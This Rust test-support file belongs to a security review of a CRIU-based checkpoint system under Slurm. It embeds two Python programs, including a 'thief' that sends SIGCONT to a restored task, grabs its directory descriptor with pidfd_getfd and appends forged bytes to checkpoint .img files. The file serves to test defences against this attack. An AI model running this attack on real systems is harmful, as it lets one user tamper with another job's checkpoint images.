//! Security review N1 (issue 37), the attack's two programs and what it
//! would forge, shared by the test against the agent and CRIU
//! (checkpoint/tests/preempt_criu.rs) and the one under a real Slurm
//! (tests/tests/preempt_checkpoint.rs).

use std::path::Path;

/// The job's application, for `python3 -c APP READY HELD GO HOME`: holds
/// the directory `HELD` as descriptor 3 and writes its pid to `READY`; once
/// `GO` exists, clones one sibling with `CLONE_PARENT` that writes
/// "<pid> <CapEff> <CapPrm> <CapAmb>" to `HOME/sibling-<pid>` every 20 ms
/// for 60 s.
pub const APP: &str = "import ctypes,os,sys,time\nlibc=ctypes.CDLL(None,use_errno=True)\n\
    fd=os.open(sys.argv[2],os.O_RDONLY|os.O_DIRECTORY)\nos.dup2(fd,3)\nopen(sys.argv[1],'w').write(str(os.getpid()))\n\
    done=False\nwhile True:\n    time.sleep(0.002)\n    if done or not os.path.exists(sys.argv[3]): continue\n    done=True\n\
    \x20   if libc.syscall(56,0x8000|17,0,0,0,0)!=0: continue\n    me=os.getpid()\n    end=time.time()+60\n\
    \x20   while time.time()<end:\n        st=open('/proc/self/status').read().split('\\n')\n\
    \x20       caps=[l.split()[1] for l in st if l.split(':')[0] in ('CapEff','CapPrm','CapAmb')]\n\
    \x20       open(sys.argv[4]+'/sibling-%d'%me,'a').write('%d %s\\n'%(me,' '.join(caps)))\n        time.sleep(0.02)\n    os._exit(0)\n";

/// The thief, for `python3 -c THIEF PID STOP SECONDS` as the job's user
/// outside the job, until `STOP` exists (`SECONDS` at most): it waits until
/// the restored task `PID` is stopped (State T or t), then loops SIGCONT,
/// `pidfd_getfd(PID, 3)` and an append to every `*.img` it can list through
/// the descriptor it took. Prints its counts (`sigcont`, `getfd_tries`,
/// `getfd_ok`, `writes`, `write_refusals`) and every path it got a
/// descriptor of (`paths`), as JSON.
pub const THIEF: &str = "import ctypes,json,os,signal,sys,time\nlibc=ctypes.CDLL(None,use_errno=True)\npid=int(sys.argv[1])\n\
    c={'sigcont':0,'getfd_tries':0,'getfd_ok':0,'writes':0,'write_refusals':0,'paths':[]}\nend=time.time()+float(sys.argv[3])\n\
    def held():\n    try:\n        st=open('/proc/%d/status'%pid).read()\n    except OSError:\n        return False\n\
    \x20   return '\\nState:\\tT' in st or '\\nState:\\tt' in st\n\
    while time.time()<end and not os.path.exists(sys.argv[2]) and not held(): time.sleep(0.0005)\n\
    while time.time()<end and not os.path.exists(sys.argv[2]):\n    try:\n        os.kill(pid,signal.SIGCONT)\n\
    \x20       c['sigcont']+=1\n        p=os.pidfd_open(pid)\n    except OSError:\n        continue\n\
    \x20   c['getfd_tries']+=1\n    fd=libc.syscall(438,p,3,0)\n    os.close(p)\n    if fd<0: continue\n\
    \x20   c['getfd_ok']+=1\n    path=os.readlink('/proc/self/fd/%d'%fd)\n\
    \x20   if path not in c['paths']: c['paths'].append(path)\n    try:\n        names=os.listdir(fd)\n\
    \x20   except OSError:\n        names=[]\n    for name in names:\n        if not name.endswith('.img'): continue\n\
    \x20       try:\n            w=os.open(name,os.O_WRONLY|os.O_APPEND,dir_fd=fd)\n            os.write(w,b'forged')\n\
    \x20           os.close(w)\n            c['writes']+=1\n        except OSError:\n            c['write_refusals']+=1\n\
    \x20   os.close(fd)\nprint(json.dumps(c),flush=True)\n";

/// Every image file of a run directory with its bytes (the manifest and
/// CRIU's marks aside): what a forger would have to change.
pub fn image_bytes(run: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out: Vec<(String, Vec<u8>)> = std::fs::read_dir(run)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().ends_with(".img"))
        .map(|e| (e.file_name().to_string_lossy().into_owned(), std::fs::read(e.path()).unwrap()))
        .collect();
    out.sort();
    out
}

/// Whether process `pid` holds a descriptor of `file` (its device and inode).
pub fn holds(pid: i32, file: &Path) -> bool {
    use std::os::unix::fs::MetadataExt;
    let Ok(want) = std::fs::metadata(file) else { return false };
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .into_iter()
        .flatten()
        .flatten()
        .any(|fd| std::fs::metadata(fd.path()).is_ok_and(|m| (m.dev(), m.ino()) == (want.dev(), want.ino())))
}
